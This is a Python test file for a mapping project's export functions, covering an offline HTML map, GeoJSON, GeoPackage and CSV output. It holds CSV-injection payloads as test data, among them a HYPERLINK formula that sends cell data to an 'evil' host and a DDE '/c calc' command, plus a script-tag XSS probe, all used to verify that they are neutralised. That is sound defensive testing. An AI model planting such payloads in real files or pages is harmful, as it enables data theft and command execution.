"""Publishable outputs: a standalone HTML map that needs no network, and per-location GeoJSON."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.maps.exports import (
    FORMULA_TRIGGERS,
    inert_cell,
    inert_text,
    locations_geojson,
    locations_geopackage,
    mentions_csv,
    standalone_html,
)
from geo.places.layers import load_gazetteer


@pytest.fixture(scope="module")
def gazetteer():
    return load_gazetteer()


@pytest.fixture
def mentions() -> pd.DataFrame:
    return pd.DataFrame(
        [
            {
                "article_id": "0123456789abcdef",
                "location_id": "rafah-crossing",
                "surface": "Rafah crossing",
                "start": 4,
                "end": 18,
                "kind": "explicit",
                "sentence": "The Rafah crossing reopened <script>alert(1)</script>.",
                "speaker": "Egyptian officials",
                "title": "Crossing reopens",
                "source": "Wire",
                "published": dt.date(2024, 9, 1),
                "url": None,
            }
        ]
    )


def test_standalone_html_loads_nothing_from_the_network(gazetteer, mentions):
    html = standalone_html(mentions, gazetteer)
    assert not re.findall(r'(?:src|href)="https?://[^"]+\.(?:js|css)"', html)
    assert 'src="data:text/javascript;base64,' in html
    assert "url(images/" not in html  # Leaflet's control icons are inlined too
    assert "<script>alert(1)</script>" not in html


def test_geojson_has_one_feature_per_contested_location_with_counts(gazetteer, mentions):
    collection = json.loads(locations_geojson(mentions, gazetteer))
    by_id = {f["properties"]["location_id"]: f for f in collection["features"]}
    assert set(by_id) == set(gazetteer.location_ids())
    rafah = by_id["rafah-crossing"]["properties"]
    assert rafah["count"] == 1 and rafah["quotes"][0]["speaker"] == "Egyptian officials"
    assert "OpenStreetMap" in collection["attribution"]
    assert "crs" not in collection


# --- CSV: untrusted text made inert for spreadsheets (OWASP "CSV Injection") ----------------

# payload -> the cell a spreadsheet gets
CELLS = {
    '=HYPERLINK("http://evil/"&A1,"x")': '\'=HYPERLINK("http://evil/"&A1,"x")',
    "@SUM(1+1)": "'@SUM(1+1)",
    "=cmd|'/c calc'!A1": "'=cmd|'/c calc'!A1",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "@x": "'@x",
    "  =1+1": "'  =1+1",
    "\n-1": "'\n-1",
    "Rafah crossing shut": "Rafah crossing shut",
    "a = b + c": "a = b + c",
    "'=1": "'=1",
    "a\r=1+1": "a\r=1+1",  # the CR is quoted, so no row starts at "=1+1"
    "": "",
}
HOSTILE_COLUMNS = ("surface", "sentence", "title", "source")


@pytest.mark.parametrize(("value", "cell"), CELLS.items(), ids=[repr(v) for v in CELLS])
def test_inert_cell(value: str, cell: str) -> None:
    assert inert_cell(value) == cell


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _hostile(values: list[str], starts: list[int]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "article_id": "0123456789abcdef",
            "location_id": "rafah-crossing",
            "surface": values,
            "start": starts,
            "end": [start + 1 for start in starts],
            "kind": "explicit",
            "sentence": values,
            "speaker": None,
            "confidence": -0.5,
            "title": values,
            "source": values,
            "published": dt.date(2024, 9, 1),
            "url": None,
        }
    ).astype({"start": "int64", "end": "int64"})


def test_mentions_csv_neutralises_text_and_keeps_numbers() -> None:
    frame = _hostile(list(CELLS), [-2, *range(1, len(CELLS))])
    rows = _rows(mentions_csv(frame))
    assert [row["title"] for row in rows] == list(CELLS.values())
    assert [row["source"] for row in rows] == list(CELLS.values())
    assert [row["sentence"] for row in rows] == list(CELLS.values())
    assert rows[0]["start"] == "-2" and rows[0]["end"] == "-1"  # numbers, not text: untouched
    assert {row["confidence"] for row in rows} == {"-0.5"}
    assert {row["published"] for row in rows} == {"2024-09-01"}
    assert {row["speaker"] for row in rows} == {""}


def test_inert_text_leaves_its_input_alone() -> None:
    frame = _hostile(["=1"], [0])
    assert inert_text(frame)["title"].tolist() == ["'=1"]
    assert frame["title"].tolist() == ["=1"]


def test_mentions_csv_of_no_mentions_is_the_header() -> None:
    header = "article_id,location_id,surface,start,end,kind,sentence,speaker,confidence,"
    assert mentions_csv(_hostile([], [])) == header + "title,source,published,url\r\n"


def test_a_lone_carriage_return_is_quoted() -> None:
    text = mentions_csv(_hostile(["a\r=1+1", "b\n=1"], [0, 1]))
    assert '"a\r=1+1"' in text and '"b\n=1"' in text
    assert len(_rows(text)) == 2


_texts = st.text(
    alphabet=st.sampled_from([*FORMULA_TRIGGERS, " ", "\n", "'", '"', ",", "a", "1", "\u00a0"])
    | st.characters(exclude_categories=("Cs",)),
    max_size=8,
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(_texts, st.integers(-(2**40), 2**40)), min_size=1, max_size=5))
def test_no_text_cell_starts_a_formula(cells: list[tuple[str, int]]) -> None:
    values, starts = [text for text, _ in cells], [start for _, start in cells]
    rows = _rows(mentions_csv(_hostile(values, starts)))
    for row, value, start in zip(rows, values, starts, strict=True):
        for column in HOSTILE_COLUMNS:
            cell = row[column]
            assert not cell.startswith(FORMULA_TRIGGERS), cell
            assert not cell.lstrip().startswith(FORMULA_TRIGGERS), cell
            assert cell in (value, "'" + value)  # only ever one quote in front
        assert int(row["start"]) == start


def _geopackage(tmp_path, mentions, gazetteer, **options):  # type: ignore[no-untyped-def]
    path = tmp_path / "places.gpkg"
    path.write_bytes(locations_geopackage(mentions.assign(confidence=0.9), gazetteer, **options))
    return path


def test_geopackage_holds_places_and_mentions_as_two_layers(tmp_path, gazetteer, mentions):
    import pyogrio

    path = _geopackage(tmp_path, mentions, gazetteer)
    assert [name for name, _ in pyogrio.list_layers(path)] == ["places", "mentions"]
    assert pyogrio.read_info(path, layer="places")["crs"] == "EPSG:4326"
    places = pyogrio.read_dataframe(path, layer="places").set_index("location_id")
    rafah = places.loc["rafah-crossing"]
    assert (rafah["count"], rafah["first_mention"], rafah["last_mention"]) == (
        1,
        "2024-09-01",
        "2024-09-01",
    )
    assert json.loads(rafah["sources"]) == ["Wire"]
    assert set(places.index) == set(
        gazetteer.features.loc[gazetteer.features["role"] == "contested", "location_id"]
    )
    assert places.loc["rafah-crossing", "geometry"].equals(
        gazetteer.features.set_index("location_id").loc["rafah-crossing", "geometry"]
    )
    quotes = pyogrio.read_dataframe(path, layer="mentions")
    assert quotes.loc[0, "sentence"] == mentions.loc[0, "sentence"]  # text kept as it is
    assert (quotes.loc[0, "start"], quotes.loc[0, "published"]) == (4, "2024-09-01")


def test_geopackage_of_no_mentions_still_has_every_place(tmp_path, gazetteer, mentions):
    import pyogrio

    path = _geopackage(tmp_path, mentions.iloc[0:0], gazetteer)
    places = pyogrio.read_dataframe(path, layer="places")
    assert len(places) > 0 and (places["count"] == 0).all()
    assert len(pyogrio.read_dataframe(path, layer="mentions")) == 0


def test_geopackage_names_missing_mention_columns(gazetteer, mentions):
    with pytest.raises(ValueError, match=r"lack the columns \['confidence'\]"):
        locations_geopackage(mentions, gazetteer)
